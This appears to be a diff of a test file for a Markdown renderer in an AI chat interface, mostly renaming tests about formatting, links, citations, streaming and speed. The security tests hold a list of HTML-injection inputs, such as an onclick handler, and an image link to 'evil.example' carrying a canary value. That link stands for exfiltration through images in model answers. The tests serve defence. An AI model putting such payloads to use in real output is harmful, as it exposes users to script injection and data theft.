@@ -13,7 +13,7 @@ const html = (markdown: string) => render(markdown).innerHTML.replaceAll(' dir="
 
 afterEach(() => vi.restoreAllMocks())
 
-test('shows the markdown that models write', () => {
+test('renders the Markdown that models write', () => {
   expect(html('A **bold**, *slanted*, ~~gone~~ and `code` word')).toBe(
     '<p>A <strong>bold</strong>, <em>slanted</em>, <del>gone</del> and <code>code</code> word</p>',
   )
@@ -26,7 +26,7 @@ test('shows the markdown that models write', () => {
   expect(render('|a|b|\n|-|-|\n|1|2|').querySelectorAll('td')).toHaveLength(2)
 })
 
-test('a list and a table run in the direction of their words, and columns stand as their marks say', () => {
+test('lists and tables use the direction of their text, and columns their alignment', () => {
   const element = render('1. \u0623\u0648\u0644\u064b\u0627\n\n|a|b|c|\n|:-|-:|:-:|\n|1|2|3|')
   const [list, table] = element.children
   expect([list?.getAttribute('dir'), list?.querySelector('[dir]')]).toEqual(['auto', null])
@@ -38,12 +38,12 @@ test('a list and a table run in the direction of their words, and columns stand 
   ])
 })
 
-test('leaves alone what only looks like markdown', () => {
+test('keeps text that only resembles Markdown', () => {
   expect(html('file_name_2 and 2 * 3 * 4 and \\*stars\\*')).toBe('<p>file_name_2 and 2 * 3 * 4 and *stars*</p>')
   expect(html('**open and `open')).toBe('<p>**open and `open</p>')
 })
 
-test('links open outside and only to http, https and mail addresses', () => {
+test('links open outside and only to http, https and mailto addresses', () => {
   const link = render('[ok](https://example.com/a?b=1 "title")').querySelector('a')
   expect(link?.getAttribute('href')).toBe('https://example.com/a?b=1')
   expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
@@ -72,7 +72,7 @@ const HOSTILE = [
   '**<b onclick=alert(1)>x</b>**',
 ]
 
-test('T60 T61 hostile answers give neither markup nor links', () => {
+test('hostile answers produce neither markup nor links', () => {
   for (const markdown of HOSTILE) {
     const element = render(markdown)
     expect(element.querySelector('script, img, svg, iframe, a, b, style, link'), markdown).toBeNull()
@@ -81,7 +81,7 @@ test('T60 T61 hostile answers give neither markup nor links', () => {
   }
 })
 
-test('T62 images in an answer cause no request and show their description', () => {
+test('images in an answer cause no request and show their description', () => {
   const fetched = vi.spyOn(globalThis, 'fetch')
   const images = [
     '![a](https://evil.example/?d=CANARY)',
@@ -99,19 +99,19 @@ test('T62 images in an answer cause no request and show their description', () =
   expect(fetched).not.toHaveBeenCalled()
 })
 
-test('numbers in brackets become marks when they are citations', () => {
+test('numbers in brackets become markers if they are citations', () => {
   const element = render('Yes.[1] No.[2]', (number) => (number === 1 ? h('button', {}, '1') : null))
   expect(element.querySelectorAll('button')).toHaveLength(1)
   expect(element.textContent).toBe('Yes.1 No.[2]')
 })
 
-test('a full stop stays on the line of the citation before it', () => {
+test('a full stop stays on the line of the preceding citation', () => {
   const element = render('Two weeks [1]. More.', () => h('button', {}, '1'))
   expect(element.querySelector('.cited')?.textContent).toBe('1.')
   expect(element.textContent).toBe('Two weeks 1. More.')
 })
 
-test('text that grows keeps the nodes of finished blocks', () => {
+test('streaming text keeps the nodes of finished blocks', () => {
   const view = new MarkdownView({})
   view.update('First\n\nSec')
   const first = view.element.firstElementChild
@@ -122,7 +122,7 @@ test('text that grows keeps the nodes of finished blocks', () => {
   expect(view.element.textContent).toBe('Again')
 })
 
-test('T93 nested and unclosed marks cost no time', () => {
+test('nested and unclosed markers do not cause quadratic time', () => {
   const started = performance.now()
   for (const text of [
     '*'.repeat(20_000),
